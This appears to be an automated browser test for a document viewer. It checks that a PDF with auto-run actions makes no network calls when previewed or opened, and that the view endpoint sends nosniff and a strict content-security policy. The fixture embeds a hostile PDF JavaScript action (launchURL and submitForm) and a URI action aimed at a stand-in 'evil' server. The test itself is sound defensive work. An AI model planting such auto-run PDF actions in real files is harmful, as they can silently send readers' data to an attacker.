import { describe, expect, test } from 'vitest';
import { pdf } from '../fixtures/paper.js';
import { eventually, hasNoBrowser, setUpBench } from './support/bench.js';
import { startEvilServer } from './support/evil-server.js';
import { billLines, dayBefore } from './support/papers.js';

/** A string for a PDF's dictionary, where a plain text would be a name. */
const text = (words: string): object => Object(words) as object;

describe.skipIf(hasNoBrowser)('A document in a viewer', () => {
  // Only the whole one shows a PDF by itself.
  const bench = setUpBench({ inWholeBrowser: true });

  test('a PDF that would run and call runs nothing, here or in the browser’s own viewer', async () => {
    const { evil, called, close } = await startEvilServer();
    const actions = {
      O: { S: 'JavaScript', JS: text(`app.launchURL('${evil}/script'); this.submitForm('${evil}/submit');`) },
      C: { S: 'URI', URI: text(`${evil}/uri`) },
    };
    const bill = await pdf([billLines({ vendor: 'Maple Locks', amount: '$7.00', day: dayBefore(1) })], { page: { AA: actions } });
    expect(bill.toString('latin1')).toContain('app.launchURL');
    const id = await bench.product.upload('opens.pdf', bill);
    const { page } = await bench.visit(`/documents/${id}`, { expected: /Failed to load resource|script/i });
    await page.locator('[data-preview="pdf"] canvas').waitFor();
    const opening = page.context().waitForEvent('page');
    await page.getByRole('button', { name: 'Open in a new tab' }).click();
    const tab = await opening;
    await tab.waitForLoadState();
    const answer = await page.request.get(`${bench.product.url}/api/v1/documents/${id}/view`, {
      headers: { authorization: `Bearer ${await bench.product.tokenOf()}` },
    });
    expect(answer.headers()).toMatchObject({
      'x-content-type-options': 'nosniff',
      'content-security-policy': expect.stringContaining("default-src 'none'"),
    });
    await eventually(async () => tab.evaluate('document.readyState'), 'complete');
    expect(called).toEqual([]);
    close();
  });
});
